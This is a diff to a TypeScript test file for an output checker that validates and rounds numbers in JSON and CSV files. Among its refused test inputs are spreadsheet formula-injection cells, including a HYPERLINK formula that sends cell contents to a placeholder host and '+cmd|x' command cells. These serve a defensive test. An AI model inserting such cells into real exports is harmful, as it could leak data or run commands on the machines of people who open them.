@@ -70,20 +70,40 @@ describe('a folder of outputs', () => {
   });
 });
 
+test.each([
+  [{}, {}, '0.123457'],
+  [{ precision: 9 }, {}, '0.123456789'],
+  [{ precision: 9 }, { precision: 4 }, '0.1235'],
+  [{ precision: 3 }, { precision: 4 }, '0.123'],
+])('numbers leave in the fewer digits of manifest %j and rules %j', async (output, rules, expected) => {
+  const directory = await mkdtemp(join(tmpdir(), 'atoll-guard-'));
+  try {
+    await writeFile(join(directory, 'a.json'), '[0.1234567891]');
+    const [clean] = await checkOutputs({
+      directory,
+      declared: [{ name: 'a.json', type: 'json', maxBytes: 100, required: true, ...output }],
+      rules: { outputTypes: ['json'], maxOutputBytes: 100, ...rules },
+    });
+    expect(text(clean?.bytes ?? bytes(''))).toBe(`[${expected}]`);
+  } finally {
+    await rm(directory, { recursive: true, force: true });
+  }
+});
+
 describe('json', () => {
   test('doubled keys and white space do not leave', () => {
-    expect(text(checkJson('a.json', bytes('{"a": "secret", "a": 1}')))).toBe('{"a":1}');
+    expect(text(checkJson('a.json', bytes('{"a": "secret", "a": 1}'), 6))).toBe('{"a":1}');
   });
   test.each(['', '{', '{"a":1e999}', '"\\ud800"', `${'['.repeat(80)}${']'.repeat(80)}`])(
     '%j is refused',
     (value) => {
-      expect(() => checkJson('a.json', bytes(value))).toThrow(code('output_invalid'));
+      expect(() => checkJson('a.json', bytes(value), 6)).toThrow(code('output_invalid'));
     },
   );
   test('any JSON value survives with its meaning', () => {
     fc.assert(
       fc.property(fc.jsonValue({ maxDepth: 5, noUnicodeString: true }), (value) => {
-        expect(JSON.parse(text(checkJson('a.json', bytes(JSON.stringify(value)))))).toEqual(
+        expect(JSON.parse(text(checkJson('a.json', bytes(JSON.stringify(value)), 17)))).toEqual(
           JSON.parse(JSON.stringify(value)),
         );
       }),
@@ -91,36 +111,72 @@ describe('json', () => {
   });
 });
 
+describe('precision of json', () => {
+  const written = (value: string, precision = 6) => text(checkJson('a.json', bytes(value), precision));
+
+  test('numbers leave rounded, integers of at most 15 digits exactly', () => {
+    expect(written('[0.12345678, 1e-7, 123456789, -0.0, 123456789012345, 1234567890123456]')).toBe(
+      '[0.123457,1e-7,123456789,0,123456789012345,1234570000000000]',
+    );
+    expect(written('[0.12345678]', 2)).toBe('[0.12]');
+  });
+  test('a text that is a number of more digits is rounded, a version or a name is not', () => {
+    expect(written('{"0.12345678":"3.14159265358979","v":["1.10","007","2e8","1.2.3","NaN"]}')).toBe(
+      '{"0.123457":"3.14159","v":["1.10","007","2e8","1.2.3","NaN"]}',
+    );
+  });
+  test('two keys that become the same number are refused, none is lost', () => {
+    expect(() => written('{"0.12345678":1,"0.12345679":2}')).toThrow(code('output_invalid'));
+  });
+});
+
+const six = { precision: 6 };
+
 describe('csv', () => {
   test('the table is written anew with one kind of quoting and line end', () => {
-    expect(text(checkCsv('t.csv', bytes('a,"b"\n"1","x ""y"""\n')))).toBe('a,b\r\n1,"x ""y"""\r\n');
+    expect(text(checkCsv('t.csv', bytes('a,"b"\n"1","x ""y"""\n'), six))).toBe('a,b\r\n1,"x ""y"""\r\n');
   });
   test('rows of other width, control characters and bytes that are not UTF-8 are refused', () => {
     for (const value of ['a,b\n1\n', 'a\n\u0007\n', 'a\n"x'])
-      expect(() => checkCsv('t.csv', bytes(value))).toThrow(code('output_invalid'));
-    expect(() => checkCsv('t.csv', new Uint8Array([0x61, 0x0a, 0xff]))).toThrow(code('output_invalid'));
+      expect(() => checkCsv('t.csv', bytes(value), six)).toThrow(code('output_invalid'));
+    expect(() => checkCsv('t.csv', new Uint8Array([0x61, 0x0a, 0xff]), six)).toThrow(code('output_invalid'));
   });
   test.each(['=HYPERLINK("http://a.example/?"&A1)', '@SUM(A1)', '+cmd|x', '-2+cmd|x', '\t=1', ' =1'])(
     'a cell that a spreadsheet would run is refused: %j',
     (cell) => {
       const table = bytes(`a\n"${cell.replaceAll('"', '""')}"\n`);
-      expect(() => checkCsv('t.csv', table)).toThrow(code('output_invalid'));
+      expect(() => checkCsv('t.csv', table, six)).toThrow(code('output_invalid'));
     },
   );
-  test('signed numbers leave as they are', () => {
-    expect(text(checkCsv('t.csv', bytes('a,b\n-1.5,+2e-3\n-,-inf\n')))).toBe(
-      'a,b\r\n-1.5,+2e-3\r\n-,-inf\r\n',
+  test('numbers leave in one form and rounded; names and identifiers stay as they are', () => {
+    const rows = [
+      ['-1.5', '+2e-3', '1.50', '-0.0', '+7', '1234567.891', '3.14159265'],
+      ['-', '007', '12e45', '1.2.3', '123456789012345', '12345678901234567', ' 0.1000 '],
+    ];
+    const table = ['a,b,c,d,e,f,g', ...rows.map((row) => row.join(','))].join('\n');
+    expect(text(checkCsv('t.csv', bytes(table), six))).toBe(
+      [
+        'a,b,c,d,e,f,g',
+        '-1.5,0.002,1.5,0,7,1234570,3.14159',
+        '-,007,12e45,1.2.3,123456789012345,12345700000000000,0.1',
+        '',
+      ].join('\r\n'),
     );
+  });
+  test.each(['nan', 'NaN', '-inf', 'Infinity', '1.5e999'])('%s is no number that may leave', (cell) => {
+    expect(() => checkCsv('t.csv', bytes(`a\n${cell}\n`), six)).toThrow(code('output_invalid'));
   });
   test.each(['\u200b', '\u2066', '\u00ad', '\u{e0041}', '\u0085'])(
     'an invisible %j in a cell is refused',
     (hidden) => {
-      expect(() => checkCsv('t.csv', bytes(`a\nx${hidden}y\n`))).toThrow(code('output_invalid'));
+      expect(() => checkCsv('t.csv', bytes(`a\nx${hidden}y\n`), six)).toThrow(code('output_invalid'));
     },
   );
   test('more rows than declared are output_too_large', () => {
-    expect(() => checkCsv('t.csv', bytes('a\n1\n2\n3\n'), 2)).toThrow(code('output_too_large'));
-    expect(text(checkCsv('t.csv', bytes('a\n1\n2\n'), 2))).toBe('a\r\n1\r\n2\r\n');
+    expect(() => checkCsv('t.csv', bytes('a\n1\n2\n3\n'), { precision: 6, maxRows: 2 })).toThrow(
+      code('output_too_large'),
+    );
+    expect(text(checkCsv('t.csv', bytes('a\n1\n2\n'), { precision: 6, maxRows: 2 }))).toBe('a\r\n1\r\n2\r\n');
   });
 });
 
